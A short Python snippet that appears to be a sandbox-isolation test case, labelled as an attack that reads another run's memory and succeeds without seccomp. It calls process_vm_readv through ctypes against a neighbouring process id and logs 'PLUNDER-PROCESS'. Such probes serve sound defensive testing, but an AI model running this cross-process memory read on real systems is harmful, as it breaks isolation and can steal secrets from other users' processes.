# attack: raw | reads the memory of another run | without seccomp: said
import ctypes
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(8)
mine = Piece(ctypes.addressof(here), 8)
theirs = Piece(id(ctypes), 8)
read = ctypes.CDLL(None).process_vm_readv
read(params["neighbour"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
log("PLUNDER-PROCESS")
